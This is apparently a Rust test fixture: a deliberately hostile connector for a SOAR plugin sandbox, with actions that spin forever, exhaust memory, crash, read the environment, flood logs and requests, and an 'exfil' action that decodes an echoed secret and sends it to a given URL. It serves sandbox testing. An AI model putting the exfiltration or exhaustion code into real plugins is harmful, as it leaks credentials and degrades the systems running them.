//! Test fixture: a connector that misbehaves on purpose (loops, hogs memory,
//! crashes, reaches for hosts, secrets and the environment it was not given).
//! The sandbox tests check that each attempt fails alone and harmlessly.

use soar_plugin_sdk::http::{Part, Request};
use soar_plugin_sdk::{
    export_plugin, Action, Context, Deserialize, JsonSchema, Plugin, Result, Serialize, TargetKind,
};

/// The fixture's declaration.
pub fn plugin() -> Plugin {
    Plugin::new(
        "hostile",
        env!("CARGO_PKG_VERSION"),
        "misbehaves on purpose",
    )
    .secret("api_key")
    .action(Action::new("noop", "does nothing", noop).idempotent())
    .action(Action::new("spin", "loops forever", spin))
    .action(Action::new(
        "alloc",
        "allocates and touches `mb` MiB",
        alloc,
    ))
    .action(Action::new("trap", "aborts (a wasm trap)", trap))
    .action(Action::new("panic", "panics with a message", panic))
    .action(Action::new("read_env", "reads the environment", read_env))
    .action(Action::new("http", "sends the described request", http))
    .action(
        Action::new(
            "post_once",
            "POSTs to `url` with the idempotency key; not safe to repeat",
            post_once,
        )
        .probe("was_posted"),
    )
    .action(
        Action::new(
            "was_posted",
            "probe: did `post_once` with this key reach `url`?",
            was_posted,
        )
        .idempotent(),
    )
    .action(
        Action::new(
            "http_idempotent",
            "sends the described request; safe to repeat",
            http,
        )
        .idempotent(),
    )
    .action(Action::new(
        "remember",
        "keeps a value in a global",
        remember,
    ))
    .action(Action::new(
        "recall",
        "returns the value kept in the global",
        recall,
    ))
    .action(
        Action::new("wipe", "pretends to be destructive", noop)
            .destructive()
            .target("host", TargetKind::Host),
    )
    .action(
        Action::new(
            "wipe_untargeted",
            "destructive, and declares no target field",
            wipe_untargeted,
        )
        .destructive(),
    )
    .secret("other_key")
    .action(Action::new(
        "big_output",
        "returns `mb` MiB of output",
        big_output,
    ))
    .action(Action::new(
        "deep_output",
        "returns a value nested `depth` levels",
        deep_output,
    ))
    .action(Action::new(
        "log_flood",
        "writes `records` log records",
        log_flood,
    ))
    .action(Action::new(
        "request_loop",
        "GETs `url` `n` times",
        request_loop,
    ))
    .action(Action::new(
        "many_headers",
        "one GET to `url` with `n` headers",
        many_headers,
    ))
    .action(Action::new(
        "long_url",
        "GETs `url` with a query of `bytes` bytes",
        long_url,
    ))
    .action(Action::new(
        "rate_limited",
        "answers rate_limited with a retry-after of `ms`",
        rate_limited,
    ))
    .action(Action::new(
        "exfil",
        "fetches an echo of a secret, decodes it, sends it on",
        exfil,
    ))
}

export_plugin!(plugin);

/// Empty input.
#[derive(Deserialize, JsonSchema)]
pub struct Empty {}

/// Empty output.
#[derive(Serialize, JsonSchema)]
pub struct Done {
    /// Always true.
    pub done: bool,
}

fn noop(_: Empty, _: &Context) -> Result<Done> {
    Ok(Done { done: true })
}

fn spin(_: Empty, _: &Context) -> Result<Done> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

/// How much to allocate.
#[derive(Deserialize, JsonSchema)]
pub struct AllocInput {
    /// MiB.
    pub mb: usize,
}

fn alloc(input: AllocInput, _: &Context) -> Result<Done> {
    let mut v: Vec<u8> = Vec::with_capacity(input.mb << 20);
    v.resize(input.mb << 20, 1);
    Ok(Done {
        done: std::hint::black_box(v)[0] == 1,
    })
}

fn trap(_: Empty, _: &Context) -> Result<Done> {
    std::process::abort()
}

fn panic(_: Empty, _: &Context) -> Result<Done> {
    panic!("boom from the hostile fixture")
}

/// Variable to read.
#[derive(Deserialize, JsonSchema)]
pub struct EnvInput {
    /// Name.
    pub name: String,
}

/// What the environment showed.
#[derive(Serialize, JsonSchema)]
pub struct EnvOutput {
    /// The variable's value, if visible.
    pub value: Option<String>,
    /// How many variables were visible at all.
    pub count: usize,
    /// Command-line arguments visible.
    pub args: usize,
}

fn read_env(input: EnvInput, _: &Context) -> Result<EnvOutput> {
    Ok(EnvOutput {
        value: std::env::var(&input.name).ok(),
        count: std::env::vars().count(),
        args: std::env::args().count(),
    })
}

/// A request to send.
#[derive(Deserialize, JsonSchema)]
pub struct HttpInput {
    /// Method.
    #[serde(default = "get")]
    pub method: String,
    /// URL.
    pub url: String,
    /// Header that carries the named secret, e.g. `["x-apikey", "api_key"]`.
    #[serde(default)]
    pub secret_header: Option<(String, String)>,
    /// Form field that carries the named secret, e.g. `["password", "api_key"]`.
    #[serde(default)]
    pub secret_form: Option<(String, String)>,
    /// Send the invocation's idempotency key as `idempotency-key`.
    #[serde(default)]
    pub send_key: bool,
    /// Map a non-2xx answer to its typed error instead of returning it.
    #[serde(default)]
    pub check_status: bool,
    /// A JSON body.
    #[serde(default)]
    pub json: Option<soar_plugin_sdk::Value>,
    /// Extra plain headers (a method override, say).
    #[serde(default)]
    pub headers: Vec<(String, String)>,
}

fn get() -> String {
    "GET".into()
}

/// What came back.
#[derive(Serialize, JsonSchema)]
pub struct HttpOutput {
    /// Status.
    pub status: u16,
    /// Body as text.
    pub body: String,
    /// Response headers.
    pub headers: Vec<(String, String)>,
}

fn http(input: HttpInput, ctx: &Context) -> Result<HttpOutput> {
    let mut request = Request::new(&input.method, input.url);
    if input.send_key {
        request = request.header("idempotency-key", ctx.idempotency_key());
    }
    if let Some(body) = &input.json {
        request = request.json(body);
    }
    if let Some((name, secret)) = input.secret_header {
        request = request.secret_header(&name, &secret);
    }
    for (name, value) in &input.headers {
        request = request.header(name, value.clone());
    }
    if let Some((field, secret)) = input.secret_form {
        request = request.form(vec![(field.as_str(), Part::Secret(secret))]);
    }
    let mut response = request.send()?;
    if input.check_status {
        response = response.error_for_status()?;
    }
    Ok(HttpOutput {
        status: response.status,
        body: String::from_utf8_lossy(&response.body).into_owned(),
        headers: response.headers,
    })
}

/// Survives only as long as the instance: a fresh instance per invocation
/// must always start with `None`.
static MEMORY: std::sync::Mutex<Option<String>> = std::sync::Mutex::new(None);

/// A value to keep.
#[derive(Deserialize, JsonSchema)]
pub struct RememberInput {
    /// The value.
    pub value: String,
}

/// What the global held.
#[derive(Serialize, JsonSchema)]
pub struct Recalled {
    /// The value, if any survived.
    pub value: Option<String>,
}

fn remember(input: RememberInput, _: &Context) -> Result<Recalled> {
    let mut slot = MEMORY.lock().unwrap_or_else(|e| e.into_inner());
    let before = slot.replace(input.value);
    Ok(Recalled { value: before })
}

fn recall(_: Empty, _: &Context) -> Result<Recalled> {
    let slot = MEMORY.lock().unwrap_or_else(|e| e.into_inner());
    Ok(Recalled {
        value: slot.clone(),
    })
}

/// Where `post_once` posts and `was_posted` looks.
#[derive(Deserialize, JsonSchema)]
pub struct PostInput {
    /// Vendor URL.
    pub url: String,
}

/// What `post_once` got back.
#[derive(Serialize, JsonSchema)]
pub struct Posted {
    /// HTTP status.
    pub status: u16,
}

fn post_once(input: PostInput, ctx: &Context) -> Result<Posted> {
    let response = Request::post(input.url)
        .header("idempotency-key", ctx.idempotency_key())
        .send()?
        .error_for_status()?;
    Ok(Posted {
        status: response.status,
    })
}

/// The probe's answer.
#[derive(Serialize, JsonSchema)]
pub struct Probe {
    /// `effects.post_once`: whether the vendor has the post with this key.
    pub effects: std::collections::BTreeMap<String, bool>,
}

fn was_posted(input: PostInput, ctx: &Context) -> Result<Probe> {
    let url = format!(
        "{}?key={}",
        input.url,
        soar_plugin_sdk::http::encode(ctx.idempotency_key())
    );
    let response = Request::get(url).send()?;
    let mut effects = std::collections::BTreeMap::new();
    effects.insert("post_once".to_string(), response.status == 200);
    Ok(Probe { effects })
}

/// A target-less destructive input.
#[derive(Deserialize, JsonSchema)]
pub struct UntargetedInput {
    /// Anything.
    #[serde(default)]
    pub note: String,
}

fn wipe_untargeted(_: UntargetedInput, _: &Context) -> Result<Done> {
    Ok(Done { done: true })
}

/// A size.
#[derive(Deserialize, JsonSchema)]
pub struct SizeInput {
    /// MiB.
    pub mb: usize,
}

/// A big output.
#[derive(Serialize, JsonSchema)]
pub struct Big {
    /// Filler.
    pub data: String,
}

fn big_output(input: SizeInput, _: &Context) -> Result<Big> {
    Ok(Big {
        data: "x".repeat(input.mb << 20),
    })
}

/// A depth.
#[derive(Deserialize, JsonSchema)]
pub struct DepthInput {
    /// Levels of nesting.
    pub depth: usize,
}

fn deep_output(input: DepthInput, _: &Context) -> Result<soar_plugin_sdk::Value> {
    let mut v = soar_plugin_sdk::json!(1);
    for _ in 1..input.depth {
        v = soar_plugin_sdk::Value::Array(vec![v]);
    }
    // The outermost level is the output object itself.
    Ok(soar_plugin_sdk::json!({ "v": v }))
}

/// How much to log.
#[derive(Deserialize, JsonSchema)]
pub struct LogInput {
    /// Records.
    pub records: usize,
    /// Bytes of each record's one field value.
    #[serde(default)]
    pub field_bytes: usize,
    /// Fields per record.
    #[serde(default)]
    pub fields: usize,
}

fn log_flood(input: LogInput, ctx: &Context) -> Result<Done> {
    let value = "v".repeat(input.field_bytes);
    let names: Vec<String> = (0..input.fields.max(1)).map(|i| format!("f{i}")).collect();
    let fields: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), value.as_str())).collect();
    for i in 0..input.records {
        ctx.log(
            soar_plugin_sdk::LogLevel::Info,
            &format!("line {i}"),
            &fields,
        );
    }
    Ok(Done { done: true })
}

/// A request count.
#[derive(Deserialize, JsonSchema)]
pub struct LoopInput {
    /// URL.
    pub url: String,
    /// How many.
    pub n: usize,
}

/// How requests went.
#[derive(Serialize, JsonSchema)]
pub struct Sent {
    /// Answered.
    pub ok: usize,
    /// Refused or failed.
    pub failed: usize,
}

fn request_loop(input: LoopInput, _: &Context) -> Result<Sent> {
    let mut sent = Sent { ok: 0, failed: 0 };
    for _ in 0..input.n {
        match Request::get(input.url.clone()).send() {
            Ok(_) => sent.ok += 1,
            Err(_) => sent.failed += 1,
        }
    }
    Ok(sent)
}

fn many_headers(input: LoopInput, _: &Context) -> Result<Sent> {
    let mut request = Request::get(input.url);
    for i in 0..input.n {
        request = request.header(&format!("x-h{i}"), "v");
    }
    Ok(match request.send() {
        Ok(_) => Sent { ok: 1, failed: 0 },
        Err(_) => Sent { ok: 0, failed: 1 },
    })
}

/// A URL and a size.
#[derive(Deserialize, JsonSchema)]
pub struct LongUrlInput {
    /// URL.
    pub url: String,
    /// Query bytes.
    pub bytes: usize,
    /// Times.
    #[serde(default = "one")]
    pub n: usize,
}

fn one() -> usize {
    1
}

fn long_url(input: LongUrlInput, _: &Context) -> Result<Sent> {
    let url = format!("{}?q={}", input.url, "a".repeat(input.bytes));
    let mut sent = Sent { ok: 0, failed: 0 };
    for _ in 0..input.n {
        match Request::get(url.clone()).send() {
            Ok(_) => sent.ok += 1,
            Err(_) => sent.failed += 1,
        }
    }
    Ok(sent)
}

/// A retry-after.
#[derive(Deserialize, JsonSchema)]
pub struct RateInput {
    /// Milliseconds.
    pub ms: u64,
}

fn rate_limited(input: RateInput, _: &Context) -> Result<Done> {
    Err(soar_plugin_sdk::Error::rate_limited(
        Some(soar_plugin_sdk::RetryAfter::DelayMs(input.ms)),
        "slow down",
    ))
}

/// Where the echo comes from and where the decoded secret goes.
#[derive(Deserialize, JsonSchema)]
pub struct ExfilInput {
    /// Vendor URL that echoes the request's `x-apikey` (or Basic auth).
    pub fetch: String,
    /// `plain`, `base64`, `base64url`, `hex`, `percent`, `split`, `basic`.
    pub decode: String,
    /// Where to send what was decoded.
    pub to: String,
}

/// What the plugin decoded.
#[derive(Serialize, JsonSchema)]
pub struct Exfil {
    /// The decoded text.
    pub decoded: String,
    /// Status of the send.
    pub sent: Option<u16>,
}

fn exfil(input: ExfilInput, ctx: &Context) -> Result<Exfil> {
    use soar_plugin_sdk::http::SecretOrText;
    let mut request = Request::get(input.fetch);
    request = if input.decode == "basic" {
        request.basic_auth(
            SecretOrText::Text("svc".into()),
            SecretOrText::Secret("api_key".into()),
        )
    } else {
        request.secret_header("x-apikey", "api_key")
    };
    let response = request.send()?;
    let body: soar_plugin_sdk::Value = response.json_body().unwrap_or_default();
    let text = |k: &str| body[k].as_str().unwrap_or("").to_string();
    let decoded = match input.decode.as_str() {
        "plain" => text("echo"),
        "base64" | "basic" => b64(&text("echo"), false),
        "base64url" => b64(&text("echo"), true),
        "hex" => unhex(&text("echo")),
        "percent" => unpercent(&text("echo")),
        "split" => format!("{}{}", text("a"), text("b")),
        other => {
            return Err(soar_plugin_sdk::Error::invalid_input(format!(
                "decode {other}"
            )))
        }
    };
    // Basic: `svc:SECRET`.
    let decoded = decoded
        .strip_prefix("svc:")
        .map(str::to_string)
        .unwrap_or(decoded);
    ctx.log(
        soar_plugin_sdk::LogLevel::Info,
        &format!("decoded {decoded}"),
        &[("v", &decoded)],
    );
    let url = format!("{}?v={}", input.to, soar_plugin_sdk::http::encode(&decoded));
    let sent = Request::get(url)
        .header("x-v", decoded.clone())
        .send()
        .ok()
        .map(|r| r.status);
    let _ = Request::post(input.to)
        .json(&soar_plugin_sdk::json!({"v": decoded}))
        .send();
    Ok(Exfil { decoded, sent })
}

fn b64(text: &str, url_safe: bool) -> String {
    const STD: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let table = if url_safe { URL } else { STD };
    let text = text.strip_prefix("Basic ").unwrap_or(text);
    let mut bits: u32 = 0;
    let mut n = 0;
    let mut out = Vec::new();
    for c in text.bytes().filter(|c| *c != b'=') {
        let Some(v) = table.iter().position(|t| *t == c) else {
            break;
        };
        bits = (bits << 6) | v as u32;
        n += 6;
        if n >= 8 {
            n -= 8;
            out.push((bits >> n) as u8);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn unhex(text: &str) -> String {
    let bytes: Vec<u8> = (0..text.len() / 2)
        .filter_map(|i| u8::from_str_radix(text.get(2 * i..2 * i + 2)?, 16).ok())
        .collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn unpercent(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() + 1 {
            if let Some(v) = text
                .get(i + 1..i + 3)
                .and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}
